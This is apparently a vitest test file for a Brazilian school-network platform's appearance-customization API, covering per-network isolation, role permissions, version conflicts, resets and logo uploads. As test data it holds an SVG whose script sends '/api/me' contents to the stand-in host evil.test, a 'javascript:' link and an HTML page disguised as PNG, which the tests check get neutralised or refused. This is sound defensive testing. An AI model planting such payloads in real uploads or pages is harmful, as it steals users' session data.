import { describe, expect, it } from 'vitest';
import { CUSTOMIZACAO_PADRAO } from '../../../domain/customizacao';
import { prepararApi } from '../../../test/api';
import { PNG_1X1, pngDeTamanho } from '../../../test/multipart';
import { esperaCampo, esperaMensagem } from '../../../test/esperas';

const api = prepararApi();
const { enviar, ids } = api;

const mudar = (method: 'PUT' | 'DELETE', user: string | undefined, payload?: object, query = '') =>
  enviar(method, `/api/customizacao${query}`, user, payload);
const enviarLogo = (user: string | undefined, nome: string, tipo: string, dados: Buffer) =>
  api.enviarArquivos('/api/customizacao/logo', user, { arquivos: [{ campo: 'arquivo', nome, tipo, dados }] });
async function atual(user = 'admin', query = '') {
  return (await enviar('GET', `/api/customizacao${query}`, user)).json<{
    empresa_id: string | null;
    customizacao: typeof CUSTOMIZACAO_PADRAO;
    versoes: Record<string, string | null>;
  }>();
}

describe('customização: uma por rede', () => {
  it("each user reads their own network's; the administrador the platform's, or a network it picks; nobody without a session", async () => {
    expect((await enviar('GET', '/api/customizacao')).statusCode).toBe(401);
    const admin = await atual('admin');
    expect(admin).toMatchObject({ empresa_id: null, customizacao: CUSTOMIZACAO_PADRAO });
    for (const u of ['empresa', 'gestor', 'professor', 'aluno']) {
      const res = await enviar('GET', '/api/customizacao', u);
      expect(res.statusCode, u).toBe(200);
      expect(res.json().empresa_id, u).toBe(ids.vv);
      expect(res.json().customizacao.footer.texto, u).toContain('Vale Verde');
      expect(res.body, u).not.toContain('Serra Azul');
    }
    const sa = await enviar('GET', '/api/customizacao', 'empresa2');
    expect(sa.json().customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
    expect(sa.body).not.toContain('Vale Verde');
    expect((await atual('admin', `?empresa_id=${ids.sa}`)).customizacao.cabecalho.tituloPrincipal).toBe(
      'Rede Estadual de Serra Azul',
    );
  });

  it("another network's is not there (404, nothing of it), an unknown one neither, a bad id is 400", async () => {
    const res = await enviar('GET', `/api/customizacao?empresa_id=${ids.vv}`, 'empresa2');
    expect(res.statusCode).toBe(404);
    expect(res.body).not.toContain('Vale Verde');
    expect((await enviar('GET', `/api/customizacao?empresa_id=${ids.sa}`, 'gestor')).statusCode).toBe(404);
    expect((await enviar('GET', '/api/customizacao?empresa_id=00000000-0000-4000-8000-000000000000', 'admin')).statusCode).toBe(
      404,
    );
    const bad = await enviar('GET', '/api/customizacao?empresa_id=xyz', 'admin');
    esperaCampo(bad, 'empresa_id', 'Identificador inválido');
    const { versoes } = await atual('empresa2');
    const escrita = await mudar('PUT', 'empresa2', { customizacao: CUSTOMIZACAO_PADRAO, versoes }, `?empresa_id=${ids.vv}`);
    expect(escrita.statusCode).toBe(404);
    expect((await mudar('DELETE', 'empresa2', undefined, `?empresa_id=${ids.vv}`)).statusCode).toBe(404);
    expect((await atual('empresa')).customizacao.footer.texto).toContain('Vale Verde');
  });

  it('the administrador and the empresa save, reset and upload a logo; gestor, professor and aluno do not', async () => {
    const { versoes } = await atual('gestor');
    for (const u of ['gestor', 'professor', 'aluno']) {
      expect((await mudar('PUT', u, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode, u).toBe(403);
      expect((await mudar('DELETE', u)).statusCode, u).toBe(403);
      expect((await enviarLogo(u, 'l.png', 'image/png', PNG_1X1)).statusCode, u).toBe(403);
    }
    expect((await mudar('PUT', undefined, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode).toBe(401);
    expect((await enviarLogo(undefined, 'l.png', 'image/png', PNG_1X1)).statusCode).toBe(401);
    expect((await enviarLogo('empresa', 'l.png', 'image/png', PNG_1X1)).statusCode).toBe(201);
  });
});

const SVG_COM_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 150 60" onload="alert('x')">
  <script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.test', t))</script>
  <rect width="150" height="60" fill="#1e3a8a"/><text x="10" y="40" fill="#fff">Vale Verde</text></svg>`;

describe('customização: salvar, aplicar, restaurar', () => {
  it('refuses a javascript: footer link and an http image with field messages, saving nothing', async () => {
    const { versoes } = await atual();
    const res = await mudar('PUT', 'admin', {
      customizacao: {
        ...CUSTOMIZACAO_PADRAO,
        footer: { ...CUSTOMIZACAO_PADRAO.footer, links: 'Oi | javascript:alert(1)' },
        cabecalho: { ...CUSTOMIZACAO_PADRAO.cabecalho, imagemFundo: 'http://x.test/a.png' },
      },
      versoes,
    });
    expect(res.statusCode).toBe(400);
    expect(Object.keys(res.json().error.fields).sort()).toEqual(['cabecalho.imagemFundo', 'footer.links']);
    expect((await atual()).versoes.footer).toBeNull();
    const shape = await mudar('PUT', 'admin', { customizacao: { logo: {} }, versoes });
    expect(shape.statusCode).toBe(400);
  });

  it('saves the five cards, blank or invalid numbers becoming the defaults, and applies them', async () => {
    const { versoes } = await atual();
    const res = await mudar('PUT', 'admin', {
      customizacao: {
        logo: { url: '', largura: '', altura: 'abc', alt: 'Logo da rede' },
        cabecalho: {
          tituloPrincipal: 'Rede Vale Verde',
          subtitulo: 'Educação que transforma',
          corTitulo: '#123',
          corSubtitulo: 'azul',
          imagemFundo: '',
          altura: '96',
        },
        secoes: { estatisticas: true, atividades: false, avisos: true, calendario: false, graficos: false, links: true },
        sidebar: { largura: 99999, cor: '#1e3a8a', posicao: 'right', colapsavel: false, mostrarLogo: false },
        footer: {
          texto: '© Vale Verde',
          links: 'Privacidade | https://valeverde.mg.gov.br/privacidade, mailto:ouvidoria@valeverde.mg.gov.br',
          corTexto: '#ffffff',
          corFundo: '#1e3a8a',
          mostrarLinks: true,
        },
      },
      versoes,
    });
    expect(res.statusCode, res.body).toBe(200);
    const c = res.json().customizacao;
    expect(c.logo).toMatchObject({ largura: 150, altura: 60, alt: 'Logo da rede' });
    expect(c.cabecalho).toMatchObject({
      tituloPrincipal: 'Rede Vale Verde',
      corTitulo: '#112233',
      corSubtitulo: '#6b7280',
      altura: 96,
    });
    expect(c.sidebar).toEqual({ largura: 256, cor: '#1e3a8a', posicao: 'right', colapsavel: false, mostrarLogo: false });
    expect(c.footer.links).toEqual([
      { texto: 'Privacidade', url: 'https://valeverde.mg.gov.br/privacidade' },
      { texto: 'ouvidoria@valeverde.mg.gov.br', url: 'mailto:ouvidoria@valeverde.mg.gov.br' },
    ]);
    expect(Object.values(res.json().versoes).every((v) => typeof v === 'string')).toBe(true);

    // The landing page and the login see the platform's header and footer without a session;
    // the networks keep their own.
    const publico = (await enviar('GET', '/api/publico/aparencia')).json();
    expect(publico.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
    expect(publico.footer.texto).toBe('© Vale Verde');
    expect(publico).not.toHaveProperty('secoes');
    expect((await atual('empresa2')).customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');

    // Saving on the versions loaded before is a conflict: nothing is overwritten.
    const stale = await mudar('PUT', 'admin', { customizacao: CUSTOMIZACAO_PADRAO, versoes });
    expect(stale.statusCode).toBe(409);
    expect((await atual()).customizacao.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
  });

  it('uploads a logo: an SVG with a script is neutralised and served sandboxed, without a session', async () => {
    const res = await enviarLogo('admin', 'logo.svg', 'image/svg+xml', Buffer.from(SVG_COM_SCRIPT));
    expect(res.statusCode, res.body).toBe(201);
    const { url } = res.json();
    expect(url).toMatch(/^\/api\/publico\/arquivos\/[0-9a-f-]{36}$/);
    const served = await enviar('GET', url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/svg+xml');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.body).not.toMatch(/script|onload|evil\.test|sendBeacon/);
    expect(served.body).toContain('<text x="10" y="40" fill="#fff">Vale Verde</text>');

    const { versoes, customizacao } = await atual();
    const saved = await mudar('PUT', 'admin', {
      customizacao: { ...customizacao, logo: { ...customizacao.logo, url } },
      versoes,
    });
    expect(saved.statusCode, saved.body).toBe(200);
    expect((await enviar('GET', '/api/publico/aparencia')).json().logo.url).toBe(url);
  });

  it('refuses a logo of 2 MB + 1 byte, an HTML page renamed .png and a GIF', async () => {
    const big = await enviarLogo('admin', 'logo.png', 'image/png', pngDeTamanho(2 * 1024 * 1024 + 1));
    esperaMensagem(big, 413, 'O arquivo deve ter no máximo 2 MB.');
    const pagina = Buffer.from('<html><body onload="alert(1)">oi</body></html>');
    const html = await enviarLogo('admin', 'logo.png', 'image/png', pagina);
    esperaCampo(html, 'arquivo', 'Formato não aceito. Envie uma imagem PNG, JPG ou SVG.');
    const gif = await enviarLogo('admin', 'logo.gif', 'image/gif', Buffer.from('GIF89a\x01\x00\x01\x00'));
    expect(gif.statusCode).toBe(400);
  });

  it("an empresa's save is its network's alone: its users' dashboard follows, the other network and the landing page do not", async () => {
    const { versoes, customizacao } = await atual('empresa');
    const res = await mudar('PUT', 'empresa', {
      customizacao: {
        ...customizacao,
        secoes: { estatisticas: true, atividades: false, avisos: true, calendario: false, graficos: false, links: true },
        footer: { ...customizacao.footer, texto: 'Vale Verde educa' },
      },
      versoes,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().empresa_id).toBe(ids.vv);
    const dash = (await enviar('GET', '/api/dashboard', 'gestor')).json();
    expect(dash.secoes).toMatchObject({ atividades: false, calendario: false, graficos: false });
    expect(dash).toHaveProperty('estatisticas');
    expect(dash).toHaveProperty('avisos');
    expect(dash).not.toHaveProperty('atividades');
    expect(dash).not.toHaveProperty('calendario');
    expect(dash).not.toHaveProperty('graficos');
    expect(Object.keys((await enviar('GET', '/api/dashboard', 'empresa2')).json()).sort()).toEqual([
      'atividades',
      'avisos',
      'calendario',
      'estatisticas',
      'graficos',
      'secoes',
    ]);
    expect((await enviar('GET', '/api/publico/aparencia')).json().footer.texto).not.toContain('Vale Verde educa');
    expect((await enviar('GET', '/api/identidade', 'aluno')).json().customizacao.footer.texto).toBe('Vale Verde educa');
  });

  it("a network's reset brings back the platform's cards; the platform's reset the defaults", async () => {
    const rede = await mudar('DELETE', 'empresa');
    expect(rede.statusCode).toBe(200);
    expect(rede.json().customizacao.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
    expect(rede.json().versoes).toEqual({ logo: null, cabecalho: null, secoes: null, sidebar: null, footer: null });
    const res = await mudar('DELETE', 'admin');
    expect(res.statusCode).toBe(200);
    expect(res.json().customizacao).toEqual(CUSTOMIZACAO_PADRAO);
    expect(res.json().versoes).toEqual({ logo: null, cabecalho: null, secoes: null, sidebar: null, footer: null });
    expect((await atual('gestor')).customizacao).toEqual(CUSTOMIZACAO_PADRAO);
    const dash = (await enviar('GET', '/api/dashboard', 'gestor')).json();
    expect(Object.keys(dash).sort()).toEqual([
      'atividades',
      'avisos',
      'calendario',
      'estatisticas',
      'fechamentos_atrasados',
      'graficos',
      'secoes',
    ]);
    // Serra Azul's own cards are untouched by either reset.
    expect((await atual('empresa2')).customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
  });
});
